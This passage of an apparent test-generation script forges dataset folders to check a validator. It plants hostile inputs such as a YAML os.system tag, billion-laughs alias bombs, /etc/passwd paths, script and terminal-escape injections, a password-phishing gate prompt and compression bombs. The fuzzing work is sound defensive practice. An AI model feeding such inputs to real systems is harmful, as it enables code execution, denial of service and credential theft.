    d.row("block1_conv1", 1)["split"] = "train"
    d.save()


@forgery("folder", "rows in other order")
def rows_reversed(p):
    d = Folder(p)
    d.rows.reverse()
    d.save(order=False)


@forgery("folder", "a row left out, counts and card redone")
def row_dropped(p):
    d = Folder(p)
    d.rows.remove(d.row("block1_conv1", 0))
    d.save()


@forgery("folder", "a row twice, counts redone")
def row_twice(p):
    d = Folder(p)
    d.rows.append(dict(d.row("block1_conv1", 0)))
    d.save()


@forgery("folder", "a filter 8 of block1_conv1, which does not exist, with invented image")
def row_ninth_filter(p):
    d = Folder(p)
    r = dict(d.row("block1_conv1", 0))
    r.update(filter=8, path="filter-8.png")
    set_image(r, invented())
    d.rows.append(r)
    d.build["scope"]["layers"]["block1_conv1"] = "0-8"
    d.card = d.card.replace("block1_conv1: 0-7", "block1_conv1: 0-8")
    d.save(sheet=False)


def _subset(p, seed=None, layers=("block1_conv1", "block2_conv2")):
    d = Bundle(p)
    gone = [r for r in d.rows if r["layer"] not in layers]
    for r in gone:
        (p / r["file_name"]).unlink()
    for l in {r["layer"] for r in gone}:
        (p / "filterActivations" / l).rmdir()
    d.rows = [r for r in d.rows if r["layer"] in layers]
    d.build["scope"]["layers"] = dict.fromkeys(layers, "0-7")
    d.build["outranked"]["original"] = [e for e in d.build["outranked"]["original"] if e["layer"] in layers]
    old = d.build["command"]
    new = old.replace("block1_conv1,block2_conv2,block3_conv1", ",".join(layers))
    if seed is not None:
        new = new.replace("--seed 0", f"--seed {seed}")
        d.build["seed"] = seed
        for r in d.rows:
            r["seed"] = str(seed)
    d.build["command"] = new
    d.kag["description"] = d.kag["description"].replace(old, new)
    return d


@forgery(
    "bundle", "a whole layer (with the dead images) left out, everything else consistent: the build of two layers", "harmless"
)
def b_subset(p):
    _subset(p).save()


@forgery("bundle", "two layers without dead images, told to be seed 1: numbers of seed 0 under another seed", "audit")
def b_subset_other_seed(p):
    _subset(p, 1).save()


@forgery("bundle", "two layers, seed 2**63-1", "audit")
def b_subset_seed_max(p):
    _subset(p, 2**63 - 1).save()


@forgery("bundle", "all three layers, told to be seed 1: the dead images are not that noise")
def b_seed_1(p):
    _subset(p, 1, ("block1_conv1", "block2_conv2", "block3_conv1")).save()


@forgery("bundle", "two layers, layers renamed to block4_conv1 and block5_conv1 throughout", "invalid")
def b_layers_renamed(p):
    d = _subset(p)
    ren = {"block1_conv1": "block4_conv1", "block2_conv2": "block5_conv1"}
    for a, b in ren.items():
        (p / "filterActivations" / a).rename(p / "filterActivations" / b)
    for r in d.rows:
        r["file_name"] = r["file_name"].replace(r["layer"], ren[r["layer"]])
        r["layer"] = ren[r["layer"]]
    d.build["scope"]["layers"] = {ren[k]: v for k, v in d.build["scope"]["layers"].items()}
    for e in d.build["outranked"]["original"]:
        e["layer"] = ren[e["layer"]]
    new = d.build["command"].replace("block1_conv1,block2_conv2", "block4_conv1,block5_conv1")
    d.kag["description"] = d.kag["description"].replace(d.build["command"], new)
    d.build["command"] = new
    d.save()


@forgery("bundle", "filters 0 and 1 only of two layers told to be the whole: scope complete = true")
def b_scope_complete(p):
    d = Bundle(p)
    d.build["scope"]["complete"] = True
    d.kag["description"] = d.kag["description"].replace(
        " This is a partial build: not every filter of the network is in it.", ""
    )
    d.save()


@forgery("folder", "scope complete = true, card's sentence on the partial build removed")
def scope_complete(p):
    d = Folder(p)
    d.build["scope"]["complete"] = True
    d.card = re.sub(r"\*\*This is a partial build.*?\n\n", "", d.card, flags=re.S)
    d.save()


@forgery("bundle", "network demo renamed vgg16 throughout", "invalid")
def b_network_vgg16(p):
    d = _subset(p)
    d.build["network"]["name"] = "vgg16"
    for r in d.rows:
        r["network"] = "vgg16"
    old = d.build["command"]
    d.build["command"] = old.replace("--network demo", "--network vgg16")
    d.kag = json.loads(
        json.dumps(d.kag)
        .replace("--network demo", "--network vgg16")
        .replace("`demo`", "`vgg16`")
        .replace("DEMO", "VGG16")
        .replace("demo-filter", "vgg16-filter")
    )
    d.cro = json.loads(json.dumps(d.cro).replace("filter of demo", "filter of vgg16").replace('"demo"', '"vgg16"'))
    d.save()


# ================================================================ 5. parquet: columns, types, metadata
def table(name, what, expected, change, **kw):
    def f(p):
        Folder(p).save(table=lambda s, t: change(t), **kw)

    add(name, "folder", what, expected, f)


def _cast(col, typ, values=None, hf=None):
    def f(t):
        i = t.schema.get_field_index(col)
        c = t[col]
        arr = c.combine_chunks() if values is None else None
        new = pa.array(values(c.to_pylist()), typ) if values else arr.cast(typ)
        out = t.set_column(i, pa.field(col, typ), new)
        return _hf(out, hf) if hf else out

    return f


def hf_of(t):
    return json.loads(t.schema.metadata[b"huggingface"])


def _hf(t, change):
    h = hf_of(t)
    r = change(h)
    h = h if r is None else r
    text = h if isinstance(h, (str, bytes)) else json.dumps(h)
    return t.replace_schema_metadata({**t.schema.metadata, b"huggingface": text})


def _enc_dict(*cols):
    def f(t):
        for c in cols:
            t = t.set_column(t.schema.get_field_index(c), c, t[c].combine_chunks().dictionary_encode())
        return t

    return f


table(
    "layer_dictionary",
    "layer labels dictionary encoded in ARROW:schema (pyarrow gives plain int64 back: no value differs)",
    "harmless",
    _enc_dict("layer"),
)
table(
    "status_dictionary",
    "status labels dictionary encoded in ARROW:schema (read back as plain int64)",
    "harmless",
    _enc_dict("status"),
)
table("network_dictionary", "network dictionary encoded", "invalid", _enc_dict("network", "recipe"))
table("layer_strings", "layer stored as names", "invalid", _cast("layer", pa.string(), lambda v: [LAYERS[x] for x in v]))
table("layer_int32", "layer stored as int32", "invalid", _cast("layer", pa.int32()))
table("layer_uint64", "layer stored as uint64", "invalid", _cast("layer", pa.uint64()))
table("layer_float", "layer stored as double", "invalid", _cast("layer", pa.float64()))
table("filter_int64", "filter stored as int64", "invalid", _cast("filter", pa.int64()))
table("filter_float", "filter stored as float", "invalid", _cast("filter", pa.float32()))
table(
    "filter_int64_declared",
    "filter int64, stored and declared",
    "invalid",
    _cast("filter", pa.int64(), hf=lambda h: h["info"]["features"]["filter"].update(dtype="int64")),
)
table("filter_int16", "filter stored as int16", "invalid", _cast("filter", pa.int16()))
table("seed_timestamp", "seed stored as timestamp", "invalid", _cast("seed", pa.timestamp("us"), lambda v: v))
table("seed_duration", "seed stored as duration (int64 beneath)", "invalid", _cast("seed", pa.duration("ns"), lambda v: v))
table("rank_date", "rank stored as date32 (int32 beneath)", "invalid", _cast("activation_rank", pa.date32(), lambda v: v))
table("rank_time", "rank stored as time32", "invalid", _cast("activation_rank", pa.time32("ms"), lambda v: v))
table("rank_decimal", "rank stored as decimal", "invalid", _cast("activation_rank", pa.decimal128(5, 0), lambda v: v))
table("network_large_string", "network stored as large_string", "invalid", _cast("network", pa.large_string()))
table("network_binary", "network stored as binary", "invalid", _cast("network", pa.binary(), lambda v: [x.encode() for x in v]))
table("network_string_view", "network stored as string_view", "invalid", _cast("network", pa.string_view()))
table("activation_double", "activation stored as double", "invalid", _cast("activation", pa.float64()))
table(
    "activation_half",
    "activation stored as half (values rounded)",
    "invalid",
    _cast("activation", pa.float16(), lambda v: [np.float16(x) for x in v]),
)
table("index_float32", "uniformity index stored as float32", "invalid", _cast("uniformity_index", pa.float32()))
table(
    "index_strings",
    "uniformity index stored as text",
    "invalid",
    _cast("uniformity_index", pa.string(), lambda v: [repr(x) for x in v]),
)
table(
    "hash_fixed",
    "hash stored as fixed size binary",
    "invalid",
    _cast("pixels_sha256", pa.binary(64), lambda v: [x.encode() for x in v]),
)
table("status_bool", "status stored as bool", "invalid", _cast("status", pa.bool_(), lambda v: [bool(x) for x in v]))

table(
    "not_nullable",
    "columns declared as not nullable",
    "invalid",
    lambda t: t.cast(
        pa.schema([f if f.name == "image" else f.with_nullable(False) for f in t.schema], metadata=t.schema.metadata)
    ),
)
table("columns_reordered", "columns in other order", "invalid", lambda t: t.select(t.column_names[::-1]))
table(
    "columns_reordered_declared",
    "columns in other order, declared so too",
    "invalid",
    lambda t: _hf(
        t.select(t.column_names[::-1]), lambda h: {"info": {"features": dict(reversed(list(h["info"]["features"].items())))}}
    ),
)
table("column_missing", "column activation_rank missing", "invalid", lambda t: t.drop_columns(["activation_rank"]))
table("column_extra", "an extra column", "invalid", lambda t: t.append_column("note", pa.array(["=cmd"] * len(t))))
table(
    "column_extra_declared",
    "an extra column, declared",
    "invalid",
    lambda t: _hf(
        t.append_column("note", pa.array(["x"] * len(t))),
        lambda h: h["info"]["features"].update(note={"dtype": "string", "_type": "Value"}),
    ),
)
table("column_extra_null", "an extra column of type null", "invalid", lambda t: t.append_column("", pa.nulls(len(t))))
table(
    "column_duplicate",
    "a second column named filter with other values",
    "invalid",
    lambda t: t.append_column("filter", pa.array([0] * len(t), pa.int32())),
)
table(
    "column_case",
    "column Filter instead of filter",
    "invalid",
    lambda t: t.rename_columns(["Filter" if c == "filter" else c for c in t.column_names]),
)
table(
    "column_homoglyph",
    "column named with a Cyrillic letter",
    "invalid",
    lambda t: t.rename_columns(["l\u0430yer" if c == "layer" else c for c in t.column_names]),
)
table(
    "column_escape",
    "extra column named with terminal escapes and line break",
    "invalid",
    lambda t: t.append_column("x\x1b[2J\x1b]0;pwned\x07\nvalid", pa.array(["x"] * len(t))),
)
table(
    "index_column",
    "pandas' __index_level_0__ column",
    "invalid",
    lambda t: t.append_column("__index_level_0__", pa.array(range(len(t)), pa.int64())),
)


def _image(t, fields):
    v = t["image"].to_pylist()
    typ = pa.struct(fields)
    return t.set_column(0, pa.field("image", typ), pa.array([{f[0]: x.get(f[0]) for f in fields} for x in v], typ))


table(
    "image_extra_field",
    "image struct with a third, hidden field",
    "invalid",
    lambda t: t.set_column(
        0,
        "image",
        pa.array(
            [{**x, "url": "http://evil.example"} for x in t["image"].to_pylist()],
            pa.struct([("bytes", pa.binary()), ("path", pa.string()), ("url", pa.string())]),
        ),
    ),
)
table(
    "image_fields_reordered",
    "image struct as path, bytes",
    "invalid",
    lambda t: _image(t, [("path", pa.string()), ("bytes", pa.binary())]),
)
table(
    "image_large_binary",
    "image.bytes as large_binary",
    "invalid",
    lambda t: _image(t, [("bytes", pa.large_binary()), ("path", pa.string())]),
)
table(
    "image_bare",
    "image as bare binary",
    "invalid",
    lambda t: t.set_column(0, "image", pa.array([x["bytes"] for x in t["image"].to_pylist()], pa.binary())),
)
table(
    "image_path_binary",
    "image.path as binary",
    "invalid",
    lambda t: t.set_column(
        0,
        "image",
        pa.array(
            [{"bytes": x["bytes"], "path": x["path"].encode()} for x in t["image"].to_pylist()],
            pa.struct([("bytes", pa.binary()), ("path", pa.binary())]),
        ),
    ),
)


def hf(name, what, expected, change):
    table("hf_" + name, what, expected, lambda t: _hf(t, change))


def F(h):
    return h["info"]["features"]


hf(
    "status_names_swapped",
    "huggingface metadata: names of status exchanged: dead images read as alive",
    "invalid",
    lambda h: F(h)["status"].update(names=["dead", "alive"]),
)
hf(
    "layer_names_swapped",
    "huggingface metadata: layer names reversed",
    "invalid",
    lambda h: F(h)["layer"].update(names=LAYERS[::-1]),
)
hf(
    "layer_names_more",
    "huggingface metadata: one name more",
    "invalid",
    lambda h: F(h)["layer"].update(names=[*LAYERS, "block6_conv1"]),
)
hf(
    "layer_value",
    "huggingface metadata: layer as plain int64",
    "invalid",
    lambda h: F(h).update(layer={"dtype": "int64", "_type": "Value"}),
)
hf("image_no_decode", "huggingface metadata: image not to be decoded", "invalid", lambda h: F(h)["image"].update(decode=False))
hf("image_mode", "huggingface metadata: image to be converted to mode L", "invalid", lambda h: F(h)["image"].update(mode="L"))
hf("filter_dtype", "huggingface metadata: filter declared int64", "invalid", lambda h: F(h)["filter"].update(dtype="int64"))
hf("value_id", "huggingface metadata: feature with an id", "invalid", lambda h: F(h)["filter"].update(id="x"))
hf(
    "classlabel_file",
    "huggingface metadata: ClassLabel with names_file /etc/passwd",
    "invalid",
    lambda h: F(h)["layer"].update(names_file="/etc/passwd"),
)
hf(
    "num_classes",
    "huggingface metadata: ClassLabel with num_classes 99",
    "invalid",
    lambda h: F(h)["layer"].update(num_classes=99),
)
hf(
    "info_licence",
    "huggingface metadata: info with another licence and description",
    "invalid",
    lambda h: h["info"].update(
        license="mit", description="pictures by a famous artist", homepage="http://evil.example", citation="Me, 2026"
    ),
)
hf("info_extra_key", "huggingface metadata: a top key more (fingerprint)", "harmless", lambda h: h.update(fingerprint="0123"))
hf(
    "unknown_type",
    "huggingface metadata: _type names a class that is none",
    "invalid",
    lambda h: F(h)["filter"].update(_type="os.system"),
)
hf(
    "duplicate_key",
    "huggingface metadata: JSON with features twice, the lie first",
    "invalid",
    lambda h: json.dumps(h).replace(
        '"filter": {', '"status": {"names": ["dead", "alive"], "_type": "ClassLabel"}, "filter": {', 1
    ),
)
hf(
    "duplicate_key_last",
    "huggingface metadata: JSON with status twice, the lie last",
    "invalid",
    lambda h: json.dumps(h)[:-3] + ', "status": {"names": ["dead", "alive"], "_type": "ClassLabel"}}}}',
)
hf(
    "order",
    "huggingface metadata: features in other order than the columns",
    "invalid",
    lambda h: {"info": {"features": dict(sorted(F(h).items()))}},
)
hf("broken", "huggingface metadata: broken JSON", "invalid", lambda h: '{"info": ')
hf("deep", "huggingface metadata: JSON 100000 deep", "invalid", lambda h: "[" * 100_000 + "]" * 100_000)
hf("not_utf8", "huggingface metadata: not UTF-8", "invalid", lambda h: b"\xff\xfe{}")
hf("list", "huggingface metadata: a list", "invalid", lambda h: "[]")
hf("null_info", "huggingface metadata: info null", "invalid", lambda h: '{"info": null}')
hf("features_list", "huggingface metadata: features a list", "invalid", lambda h: '{"info": {"features": [1]}}')
hf("features_str", "huggingface metadata: a feature is a string", "invalid", lambda h: F(h).update(filter="int32"))
hf("nan", "huggingface metadata: a huge number", "invalid", lambda h: json.dumps(h)[:-1] + ', "x": ' + "9" * 5000 + "}")
table(
    "hf_missing", "no huggingface metadata at all (labels are bare numbers)", "invalid", lambda t: t.replace_schema_metadata({})
)
table(
    "kv_extra",
    "another key in the parquet metadata, with a script",
    "harmless",
    lambda t: t.replace_schema_metadata({**t.schema.metadata, b"note": b"<script>alert(1)</script>"}),
)
table(
    "kv_pandas",
    "pandas metadata that calls filter a categorical index",
    "harmless",
    lambda t: t.replace_schema_metadata(
        {
            **t.schema.metadata,
            b"pandas": json.dumps({"index_columns": ["filter"], "columns": [], "column_indexes": []}).encode(),
        }
    ),
)
table(
    "kv_pandas_broken",
    "pandas metadata broken",
    "harmless",
    lambda t: t.replace_schema_metadata({**t.schema.metadata, b"pandas": b"{{"}),
)
table(
    "kv_payload",
    "a megabyte of payload in the parquet metadata",
    "invalid",
    lambda t: t.replace_schema_metadata({**t.schema.metadata, b"payload": b"MZ" * 500_000}),
)
table(
    "field_metadata",
    "metadata on a field that contradicts (unit: negative)",
    "harmless",
    lambda t: t.cast(
        pa.schema(
            [f.with_metadata({"unit": "joule"}) if f.name == "activation" else f for f in t.schema], metadata=t.schema.metadata
        )
    ),
)
table(
    "field_ids",
    "field ids on columns",
    "harmless",
    lambda t: t.cast(
        pa.schema(
            [f.with_metadata({"PARQUET:field_id": str(99 - i)}) for i, f in enumerate(t.schema)], metadata=t.schema.metadata
        )
    ),
)
table(
    "extension_type",
    "filter declared as an Arrow extension type",
    "invalid",
    lambda t: t.cast(
        pa.schema(
            [
                f.with_metadata({"ARROW:extension:name": "evil.pickle", "ARROW:extension:metadata": "x"})
                if f.name == "filter"
                else f
                for f in t.schema
            ],
            metadata=t.schema.metadata,
        )
    ),
)


def _swap(b):
    return b.replace(b'["alive", "dead"]', b'["dead", "alive"]')


def _varint(n):
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def _footer(change):
    def f(b, s):
        n = struct.unpack("<I", b[-8:-4])[0]
        foot = change(b[-8 - n : -8])
        return b[: -8 - n] + foot + struct.pack("<I", len(foot)) + b[-4:]

    return f


def _kv_twice(before):
    """a second entry with the key huggingface, written into the footer's list by hand (Thrift compact)"""

    def change(foot):
        c = foot.index(b"\x18\x18content_defined_chunking")
        h = foot.index(b"\x18\x0bhuggingface")
        k = foot.index(b"\x18\x0cARROW:schema")
        assert foot[c - 1] == 0x3C
        assert c < h < k
        lie = _swap(foot[h:k])
        assert lie != foot[h:k]
        at = h if before else k
        return foot[: c - 1] + b"\x4c" + foot[c:at] + lie + foot[at:]

    return change


def _kv_arrow(change_kv, change_arrow):
    """honest in one of the two places that hold the features (key huggingface; inside ARROW:schema), a lie in the other"""
    import base64

    def change(foot):
        k = foot.index(b"\x18\x0cARROW:schema") + 14
        assert foot[k] == 0x18
        p = k + 1
        n = sh = 0
        while True:
            x = foot[p]
            n |= (x & 127) << sh
            sh += 7
            p += 1
            if x < 128:
                break
        raw = base64.b64decode(foot[p : p + n])
        new = base64.b64encode(_swap(raw) if change_arrow else raw)
        assert len(new) == n
        if change_arrow:
            assert _swap(raw) != raw
        head, rest = foot[:p], foot[p + n :]
        if change_kv:
            assert _swap(head) + _swap(rest) != head + rest
            head, rest = _swap(head), _swap(rest)
        return head + new + rest

    return change


def _late(change):
    def f(p):
        Folder(p).save(after=lambda s, q: q.write_bytes(_footer(change)(q.read_bytes(), s)))

    return f


add(
    "kv_huggingface_twice",
    "folder",
    "key huggingface twice in the parquet footer: honest first, then status names swapped",
    "invalid",
    _late(_kv_twice(False)),
)
add(
    "kv_huggingface_twice_lie_first",
    "folder",
    "key huggingface twice in the parquet footer: status names swapped first, then honest",
    "invalid",
    _late(_kv_twice(True)),
)
add(
    "kv_huggingface_not_arrow",
    "folder",
    "status names swapped under the key huggingface (what the hub reads), honest within ARROW:schema",
    "invalid",
    _late(_kv_arrow(True, False)),
)
add(
    "kv_arrow_not_huggingface",
    "folder",
    "status names swapped within ARROW:schema, honest under the key huggingface",
    "invalid",
    _late(_kv_arrow(False, True)),
)


def writer(name, what, expected, **kw):
    def f(p):
        Folder(p).save(writer=lambda s, t, path: write_parquet(t, path, **kw))

    add("parquet_" + name, "folder", what, expected, f)


writer("groups", "row groups of 5, num_bytes redone", "harmless", row_group_size=5)
writer("gzip", "compressed with gzip", "harmless", compression="gzip")
writer("zstd", "compressed with zstd", "harmless", compression="zstd")
writer("brotli", "compressed with brotli", "harmless", compression="brotli")
writer("lz4", "compressed with lz4", "harmless", compression="lz4")
writer("v1", "format version 1.0", "harmless", version="1.0")
writer("pages_v2", "data pages of version 2.0", "harmless", data_page_version="2.0")
writer("no_dict", "no dictionaries", "harmless", use_dictionary=False)
writer(
    "no_cdc_pages",
    "no content-defined chunks, no page index, no statistics",
    "harmless",
    write_page_index=False,
    write_statistics=False,
    use_content_defined_chunking=False,
)
writer("no_arrow_schema", "no ARROW:schema", "harmless", store_schema=False)
writer("int96", "checksums for pages", "harmless", write_page_checksum=True)
writer(
    "delta",
    "delta encodings",
    "harmless",
    use_dictionary=False,
    column_encoding={"filter": "DELTA_BINARY_PACKED", "network": "DELTA_BYTE_ARRAY", "activation": "BYTE_STREAM_SPLIT"},
)
writer(
    "sorting_lie",
    "says rows are sorted by activation, descending: they are not",
    "invalid",
    sorting_columns=[pq.SortingColumn(8, True)],
)


def _patch(change):
    def f(p):
        Folder(p).save(after=lambda s, q: q.write_bytes(change(q.read_bytes(), s)))

    return f


def _in_footer(old, new, at_most=-1):
    def f(b, s):
        n = struct.unpack("<I", b[-8:-4])[0]
        foot = b[-8 - n : -8]
        if old not in foot:
            raise AssertionError(old)
        return b[: -8 - n] + foot.replace(old, new, at_most) + b[-8:]

    return f


add(
    "parquet_stats_lie",
    "folder",
    "footer statistics of network say evil (readers that skip by statistics find no rows)",
    "invalid",
    _patch(_in_footer(b"demo", b"evil", 4)),
)
add(
    "parquet_created_by",
    "folder",
    "created_by another program",
    "harmless",
    _patch(_in_footer(b"parquet-cpp-arrow", b"parquet-evil-arrow"[:17])),
)


def _num_rows(b, s):
    n = struct.unpack("<I", b[-8:-4])[0]
    foot = b[-8 - n : -8]
    real = {"train": 21, "validation": 2, "test": 1}[s]
    old = bytes([0x16, real * 2, 0x19])
    assert old in foot
    return b[: -8 - n] + foot.replace(old, bytes([0x16, 60 * 2 & 0x7F | 0, 0x19]), 1) + b[-8:]


add("parquet_num_rows", "folder", "footer says 60 rows, row groups hold 24", "invalid", _patch(_num_rows))


def _gap(payload):
    def f(b, s):
        n = struct.unpack("<I", b[-8:-4])[0]
        return b[: -8 - n] + payload + b[-8 - n :]

    return f


add(
    "parquet_gap_zip",
    "folder",
    "a zip with a script between pages and footer, sizes and hashes redone",
    "invalid",
    _patch(_gap(_small_zip())),
)
add(
    "parquet_gap_bytes", "folder", "200 kB of payload between pages and footer", "invalid", _patch(_gap(b"MZ payload" * 20_000))
)
add("parquet_trailing", "folder", "bytes after the closing PAR1", "invalid", _patch(lambda b, s: b + b"payload"))
add("parquet_double", "folder", "another parquet file in front (two files in one)", "invalid", _patch(lambda b, s: b + b))
add("parquet_truncated", "folder", "a parquet file cut off", "invalid", _patch(lambda b, s: b[:-100] if s == "train" else b))
add(
    "parquet_footer_length",
    "folder",
    "footer length 4 GB",
    "invalid",
    _patch(lambda b, s: b[:-8] + b"\xff\xff\xff\xff" + b[-4:]),
)
add("parquet_pare", "folder", "magic PARE at the end (encrypted footer)", "invalid", _patch(lambda b, s: b[:-4] + b"PARE"))
add("parquet_empty", "folder", "test parquet empty", "invalid", _patch(lambda b, s: b"" if s == "test" else b))
add(
    "parquet_page_corrupt", "folder", "a page header overwritten", "invalid", _patch(lambda b, s: b[:4] + b"\xff" * 20 + b[24:])
)
add("parquet_arrow_ipc", "folder", "the test file is Arrow IPC", "invalid", _patch(lambda b, s: _ipc(b) if s == "test" else b))


def _ipc(b):
    t = pq.read_table(io.BytesIO(b))
    o = io.BytesIO()
    w = pa.ipc.new_file(o, t.schema)
    w.write_table(t)
    w.close()
    return o.getvalue()


def _encrypted(plain_footer):
    import base64

    import pyarrow.parquet.encryption as pe

    class Kms(pe.KmsClient):
        def __init__(self, c):
            super().__init__()

        def wrap_key(self, key, master):
            return base64.b64encode(key)

        def unwrap_key(self, key, master):
            return base64.b64decode(key)

    def f(p):
        d = Folder(p)

        def w(s, t, path):
            cf = pe.CryptoFactory(lambda c: Kms(c))
            cfg = pe.EncryptionConfiguration(
                footer_key="f",
                column_keys={"c": ["pixels_sha256", "network"]},
                plaintext_footer=plain_footer,
                encryption_algorithm="AES_GCM_V1",
            )
            write_parquet(
                t,
                path,
                encryption_properties=cf.file_encryption_properties(pe.KmsConnectionConfig(), cfg),
                write_page_index=False,
            )

        d.save(writer=w)

    return f


add("parquet_encrypted", "folder", "parquet with encrypted footer", "invalid", _encrypted(False))
add("parquet_encrypted_columns", "folder", "parquet with plain footer and encrypted columns", "invalid", _encrypted(True))


def _bomb_rows(p):
    d = Folder(p)

    def w(s, t, path):
        if s == "test":
            n = 3_000_000
            t = pa.table([pa.nulls(n, f.type) for f in t.schema], schema=t.schema)
        write_parquet(t, path)

    d.save(writer=w)


add("parquet_row_bomb", "folder", "three million rows of nulls in a small file", "invalid", _bomb_rows)


def _bomb_value(p):
    d = Folder(p)
    d.row("block1_conv1", 1)["pix"] = invented()
    d.row("block1_conv1", 1)["png"] = SIG + b"\0" * 400_000_000
    d.save(writer=lambda s, t, path: write_parquet(t, path, compression="zstd"))


add("parquet_value_bomb", "folder", "an image of 400 MB of zeros, zstd: small file", "invalid", _bomb_value)


def _bomb_hf(p):
    Folder(p).save(table=lambda s, t: t.replace_schema_metadata({**t.schema.metadata, b"x": b"A" * 60_000_000}))


add("parquet_footer_bomb", "folder", "footer of 60 MB", "invalid", _bomb_hf)


def _bomb_string(p):
    Folder(p).save(
        table=lambda s, t: (
            t.set_column(1, "network", pa.array(["demo" * 20_000_000] * len(t), pa.string())) if s == "test" else t
        )
    )


add("parquet_string_bomb", "folder", "a network name of 80 MB", "invalid", _bomb_string)


@forgery("folder", "a second train shard 00001-of-00002 that the card's glob train-*.parquet reads too")
def shard_extra(p):
    d = Folder(p)
    t = d.table("train").slice(0, 2)
    write_parquet(t, p / "original/train-00001-of-00002.parquet")


@forgery("folder", "train in two shards, 00000-of-00002 and 00001-of-00002, Croissant and card redone: same rows", "harmless")
def shards_two(p):
    d = Folder(p)
    t = d.table("train")
    (p / "original/train-00000-of-00001.parquet").unlink()
    a, b = "original/train-00000-of-00002.parquet", "original/train-00001-of-00002.parquet"
    write_parquet(t.slice(0, 10), p / a)
    write_parquet(t.slice(10), p / b)
    e = d.cro["distribution"][0]
    new = []
    for x in (a, b):
        new.append(
            {
                **e,
                "@id": x,
                "name": x,
                "contentUrl": x,
                "contentSize": f"{(p / x).stat().st_size} B",
                "sha256": sha((p / x).read_bytes()),
            }
        )
    d.cro["distribution"][0:1] = new
    (p / "croissant.json").write_text(dump(d.cro))
    num = group_bytes(p / a)[0] + group_bytes(p / b)[0]
    c = d.card.replace("num_bytes: 475186", f"num_bytes: {num}")
    size = sum(f.stat().st_size for f in (p / "original").iterdir())
    c = re.sub(r"download_size: \d+", f"download_size: {size}", c)
    c = re.sub(r"dataset_size: \d+", f"dataset_size: {num + 45837 + 22229}", c)
    (p / "README.md").write_text(c)


# ================================================================ 6. card
def card(name, what, expected, *subs, also=None):
    def f(p):
        for o, n in subs:
            sub_file(p / "README.md", o, n, 1)
        if also:
            also(p)

    add("card_" + name, "folder", what, expected, f)


card("licence", "licence mit in the YAML", "invalid", ("license: cc-by-4.0", "license: mit"))
card(
    "licence_twice_lie_first",
    "key license twice, lie first",
    "invalid",
    ("license: cc-by-4.0", "license: mit\nlicense: cc-by-4.0"),
)
card(
    "licence_twice_lie_last",
    "key license twice, lie last",
    "invalid",
    ("license: cc-by-4.0", "license: cc-by-4.0\nlicense: mit"),
)
card("key_case", "key License: mit besides", "invalid", ("license: cc-by-4.0", "license: cc-by-4.0\nLicense: mit"))
card(
    "license_link",
    "license_link to elsewhere",
    "invalid",
    ("license: cc-by-4.0", "license: cc-by-4.0\nlicense_name: evil\nlicense_link: http://evil.example"),
)
card(
    "gated",
    "extra_gated_prompt that asks for a password",
    "invalid",
    ("license: cc-by-4.0", "license: cc-by-4.0\nextra_gated_prompt: Give your password"),
)
card("anchor_same", "anchor and alias that give the same value", "harmless", ("- demo\n", "- &a demo\n"))
card(
    "alias_bomb",
    "billion laughs in the YAML",
    "invalid",
    (
        "license: cc-by-4.0",
        "license: cc-by-4.0\n"
        + "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)).rstrip("\n"),
    ),
)
card(
    "alias_bomb_in_list",
    "billion laughs in a value that is compared",
    "invalid",
    ("- demo\n", "- &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(f"- &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))),
)
card("alias_recursive", "an alias to its own list", "invalid", ("tags:\n", "tags: &t\n- *t\n"))
card(
    "merge_key",
    "merge key << brings another licence",
    "invalid",
    ("license: cc-by-4.0", "<<: {license: mit, viewer: false}\nlicense: cc-by-4.0"),
)
card(
    "tag_python",
    "tag !!python/object/apply:os.system",
    "invalid",
    ("pretty_name: Filter activations", 'pretty_name: !!python/object/apply:os.system ["touch /tmp/forger_was_here"]'),
)
card(
    "tag_binary",
    "!!binary value of the same text",
    "invalid",
    ("pretty_name: Filter activations", "pretty_name: !!binary RmlsdGVyIGFjdGl2YXRpb25z"),
)
card(
    "tag_set",
    "tags as a YAML set",
    "invalid",
    (
        "tags:\n- activation-maximization\n- feature-visualization\n- interpretability\n- demo",
        "tags: !!set {activation-maximization, feature-visualization, interpretability, demo}",
    ),
)
card("tag_omap", "splits as !!omap", "invalid", ("  splits:\n", "  splits: !!omap\n"))
card("tag_str", "!!str on a string: same value", "harmless", ("pretty_name: Filter", "pretty_name: !!str Filter"))
card("tag_int", '!!int "21": same value', "harmless", ("num_examples: 21", 'num_examples: !!int "21"'))
card(
    "octal",
    "num_examples: 025, which is 21 in YAML 1.1 but 25 in YAML 1.2 (the hub)",
    "invalid",
    ("num_examples: 21", "num_examples: 025"),
)
card("sexagesimal", "num_bytes in base 60: a string for YAML 1.2", "invalid", ("num_bytes: 475186", "num_bytes: 131:59:46"))
card("underscore", "num_bytes: 475_186: a string for YAML 1.2", "invalid", ("num_bytes: 475186", "num_bytes: 475_186"))
card("hex", "num_examples: 0x15", "harmless", ("num_examples: 21", "num_examples: 0x15"))
card("binary_number", "num_examples: 0b10101: a string for YAML 1.2", "invalid", ("num_examples: 21", "num_examples: 0b10101"))
card("float", "num_examples: 21.0", "invalid", ("num_examples: 21", "num_examples: 21.0"))
card(
    "true_for_1",
    "num_examples of test: true (== 1 in Python)",
    "invalid",
    ("name: test\n    num_bytes: 22229\n    num_examples: 1", "name: test\n    num_bytes: 22229\n    num_examples: true"),
)
card("default_1", "default: 1 (== True in Python)", "invalid", ("default: true", "default: 1"))
card("default_yes", "default: yes: true in YAML 1.1, text in YAML 1.2", "invalid", ("default: true", "default: yes"))
card("int_keys", "class label names under integer keys", "invalid", ("'0': alive", "0: alive"))
card(
    "status_names",
    "status names exchanged in the YAML",
    "invalid",
    ("'0': alive\n          '1': dead", "'0': dead\n          '1': alive"),
)
card("names_twice", "status names key 0 twice", "invalid", ("'0': alive", "'0': dead\n          '0': alive"))
card(
    "path_outside", "config path ../../etc/*.parquet", "invalid", ("path: original/test-*.parquet", "path: ../../etc/*.parquet")
)
card("path_absolute", "config path /etc/passwd", "invalid", ("path: original/test-*.parquet", "path: /etc/passwd"))
card(
    "path_url",
    "config path https://evil.example/x.parquet",
    "invalid",
    ("path: original/test-*.parquet", "path: https://evil.example/x.parquet"),
)
card(
    "path_list",
    "config path a list with another dataset",
    "invalid",
